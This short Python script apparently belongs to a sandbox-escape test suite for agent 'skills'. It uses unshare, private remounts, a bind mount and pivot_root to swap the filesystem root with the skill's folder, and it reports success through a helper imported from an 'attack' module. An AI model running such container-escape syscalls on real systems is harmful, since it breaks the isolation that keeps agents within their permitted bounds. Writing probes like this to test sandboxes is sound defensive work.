"""The root and the folder of the skill change places."""

import os

from attack import escaped, syscall, tries

CLONE_NEWUSER, CLONE_NEWNS, MS_BIND, MS_REC, MS_PRIVATE = 0x10000000, 0x00020000, 4096, 16384, 1 << 18

with tries():
    here = os.getcwd().encode()
    syscall("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    syscall("mount", b"none", b"/", 0, MS_REC | MS_PRIVATE, 0)
    syscall("mount", here, here, 0, MS_BIND, 0)
    os.chdir(here)
    syscall("pivot_root", b".", b".")
    escaped("moved")
